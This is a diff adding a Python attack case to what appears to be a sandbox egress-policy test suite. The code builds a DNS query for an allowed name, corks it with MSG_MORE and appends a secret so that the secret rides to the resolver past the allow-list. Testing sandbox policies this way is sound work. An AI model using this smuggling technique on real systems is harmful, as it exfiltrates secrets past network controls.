@@ -1,0 +1,27 @@
+# class: network
+# rule: outbound_connectivity
+# policy: names.yaml
+# success: a question about an allowed name is held back, and data for another place is put behind it
+# proof: query
+# needs: resolver
+import socket
+
+from attack import RESOLVER, SECRET, attempt
+
+
+def labels(*names):
+    return b"".join(bytes([len(name)]) + name.encode() for name in names) + b"\0"
+
+
+def question(*names, records=0):
+    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0" + bytes([records]) + labels(*names) + b"\0\x01\0\x01"
+
+
+@attempt
+def ask():
+    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    out.settimeout(3)
+    out.sendto(question("api", "allowed", "example"), socket.MSG_MORE, (RESOLVER, 53))
+    # The kernel sends the whole to where the first part was to go.
+    out.sendto(SECRET.encode(), ("127.0.0.1", 9))
+    return len(out.recv(512)) > 12
